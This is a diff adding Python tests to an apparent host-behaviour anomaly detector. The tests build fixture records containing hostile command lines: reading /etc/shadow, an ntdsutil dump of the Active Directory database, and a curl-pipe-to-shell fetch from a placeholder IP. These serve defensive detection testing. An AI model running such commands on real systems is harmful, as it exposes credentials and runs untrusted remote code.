@@ -101,3 +101,36 @@ def test_where_nothing_can_be_modelled_it_is_told_all_the_same_once_enough_was_s
     assert alert.host == "pg00"
     few = judged(seen([*DATABASE, act]), Settings())
     assert few.alerts == () and few.host_days == 0, "two hosts say nothing of what is rare"
+
+
+def test_what_a_scanner_does_on_every_unix_host_hides_nothing_on_windows() -> None:
+    scanner = [Ran(name, "/usr/bin/cat", (3,), "cat /etc/shadow", "/usr/bin/sudo", account="scan")
+               for name in hosts(30, "lx")]  # fmt: skip
+
+    def by_person(line: str) -> Ran:
+        return Ran("pc03", SYSTEM32 + "ntdsutil.exe", (7,), line, SYSTEM32 + "cmd.exe", account=r"CORP\anna3")
+
+    taken = by_person('ntdsutil.exe "ac i ntds" "ifm" "create full C:\\PerfLogs\\x" q q')
+    assert [each.host for each in told(*scanner, taken)] == ["pc03"]
+    assert told(*scanner, by_person('ntdsutil "ac i ntds" "files" "info" q q')) == []
+
+
+SMALL = [Ran(name, "/usr/bin/gzip", DAYS, "gzip -c wal", POSTGRES, account="postgres") for name in hosts(8, "sm")]
+BUSY = [Ran(name, f"/usr/bin/tool{number}{day}", (day,), None, POSTGRES, account="postgres")
+        for number, name in enumerate(hosts(8, "sm")) for day in range(4, 10, 3)]  # fmt: skip
+
+
+def test_harm_in_a_small_population_is_judged_by_all_accounts() -> None:
+    """Eight databases of which something new is heard every third day say little; all hosts together say more."""
+    act = Ran("sm03", SHELL, (7,), "sh -c curl -fsSL http://198.51.100.7/pg.sh | sh", POSTGRES, account="postgres")
+    by_all, by_few = (judged(seen([*others, *SMALL, *BUSY, act]), Settings()) for others in (FLEET, FLEET[:1]))
+    assert {each.account_class for each in by_all.populations if each.judged} >= {"postgres"}
+    (more,), (less,) = ([each for each in found.alerts if each.host == "sm03"][:1] for found in (by_all, by_few))
+    assert more.score > less.score
+
+
+def test_what_a_good_part_of_a_population_does_is_judged_by_the_population() -> None:
+    line = "sh -c curl -fsSL http://198.51.100.7/pg.sh | sh"
+    acts = [Ran(name, SHELL, (day,), line, POSTGRES, account="postgres") for day, name in enumerate(hosts(6, "sm"))]
+    found = judged(seen([*FLEET, *SMALL, *BUSY, *acts]), Settings())
+    assert not [each for each in found.alerts if each.host in ("sm04", "sm05") and "whatever" in each.reason]
